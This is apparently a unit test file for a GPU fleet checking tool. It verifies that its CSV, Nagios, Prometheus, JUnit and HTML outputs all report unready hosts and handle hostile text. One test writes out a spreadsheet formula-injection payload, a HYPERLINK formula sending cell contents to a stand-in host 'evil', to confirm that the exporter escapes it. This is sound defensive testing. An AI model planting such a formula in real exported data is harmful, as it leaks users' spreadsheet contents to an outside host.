"""What other programs read of a run: hosts of which too little is known, and words that a host chose."""

from __future__ import annotations

import csv
import gzip
import xml.etree.ElementTree as ET
from io import StringIO

import click
import pytest

from gpuctl.fleet import runs
from gpuctl.fleet.report.page import render
from gpuctl.fleet.report.saved import read_saved
from gpuctl.output import fleet_forms, fleet_tables
from tests.unit.fleet.test_runs import a_run, document, finding, text_of


@pytest.fixture(autouse=True)
def state(tmp_path, monkeypatch):
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))


def rows(run):
    return list(csv.DictReader(StringIO(text_of(run, "csv"))))


@pytest.fixture
def lost_card(monkeypatch):
    """A card fell off the bus: nothing fails, but what has to be known is not."""
    gone = document("gpu1", finding("gpu-present", "skip", title="no GPU was recognised"), finding("gpu-reset", "skip"))
    gone["ready"] = False
    return a_run(monkeypatch, {"gpu1": gone, "gpu2": document("gpu2", finding("gpu-reset", "skip"))})[0]


def test_a_host_that_is_not_ready_always_has_a_reason(lost_card):
    table = click.unstyle(fleet_tables.check_summary(lost_card, verbose=False))
    assert "1 host: gpu-present  cannot be known  no GPU was recognised" in table
    assert "gpu-reset" not in table
    lines = [click.unstyle(fleet_tables.host_line(entry)) for entry in lost_card.hosts()]
    assert "gpu1  gpu-present" in lines[0]
    assert lines[1] == ""


def test_every_form_has_that_reason(lost_card):
    line, code = fleet_forms.nagios(lost_card)
    assert line.startswith("GPUCTL FLEET CRITICAL - gpu1: gpu-present | ")
    assert code == 2
    assert [(row["host"], row["status"], row["id"]) for row in rows(lost_card)] == [
        ("gpu1", "skip", "gpu-present"), ("gpu2", "", ""),
    ]  # fmt: skip
    assert 'gpuctl_fleet_findings{host="gpu1",id="gpu-present",status="skip"} 1' in text_of(lost_card, "prom")
    suites = ET.fromstring(text_of(lost_card, "junit"))  # noqa: S314 - our own
    assert [(one.get("failures"), one.get("skipped")) for one in suites] == [("1", "1"), ("0", "1")]
    assert len(suites.findall(".//failure")) == 1
    assert len(suites.findall(".//skipped")) == 2
    assert lost_card.tail["problems"] == {"gpu1": ["gpu-present"]}


def test_the_page_has_it_too(lost_card):
    assert lost_card.path.exists()
    page = render(*read_saved(None), title="x", made="y")
    assert "Nothing is found wrong" not in page
    assert 'aria-label="cannot be known"' in page


@pytest.mark.parametrize("start", "=+-@\t")
def test_a_spreadsheet_takes_no_hosts_word_for_a_formula(monkeypatch, start):
    said = f'{start}HYPERLINK("http://evil/"&A1)'
    bad = document("gpu1", finding("iommu-enabled", title=said, subject=said))
    (row,) = rows(a_run(monkeypatch, {"gpu1": bad})[0])
    assert (row["title"], row["subject"]) == (f"'{said}", f"'{said}")


@pytest.mark.parametrize("char", ["\ufffe", "\uffff", "\x00", "\x1b", "\ud800"])
def test_what_xml_cannot_say_is_left_out_of_it(monkeypatch, char):
    bad = {**finding("iommu-enabled", title=f"a{char}b\U0001f600"), "evidence": f"c{char}d"}
    entry = {"host": "gpu1", "state": "not-ready", "seconds": 1, "error": None, "check": {"findings": [bad]}}
    run = a_run(monkeypatch, {"gpu1": document("gpu1")})[0]
    monkeypatch.setattr(type(run), "hosts", lambda _: iter([entry]))
    failure = ET.fromstring(text_of(run, "junit").encode()).find(".//failure")  # noqa: S314 - our own
    assert failure.get("message") == "ab\U0001f600"
    assert failure.text.startswith("cd")


def test_a_run_of_another_version_is_told_as_one(lost_card):
    with gzip.open(lost_card.path, "rt") as file:
        text = file.read()
    with gzip.open(lost_card.path, "wt") as file:
        file.write(text.replace('"problems"', '"troubles"'))
    with pytest.raises(runs.NoRun, match="of another version") as error:
        runs.last_run()
    assert error.value.details == "it has no problems"


def test_nagios_gets_no_line_that_it_would_cut(monkeypatch):
    names = [f"gpu{number:04}" for number in range(0, 2000, 2)]
    ids = ("iommu-enabled", "gpu-driver", "group-viable")
    run, _ = a_run(monkeypatch, {name: document(name, *map(finding, ids)) for name in names})
    line, _ = fleet_forms.nagios(run)
    assert line.startswith("GPUCTL FLEET CRITICAL - 1000 hosts: ")
    assert len(line) < 1024, "NRPE's old limit"
    assert line.endswith("warned=0")


def test_what_has_to_be_known_is_what_the_hosts_half_says():
    from gpuctl.fleet import standing
    from gpuctl_host.checks import render

    assert standing.ESSENTIAL == render.ESSENTIAL
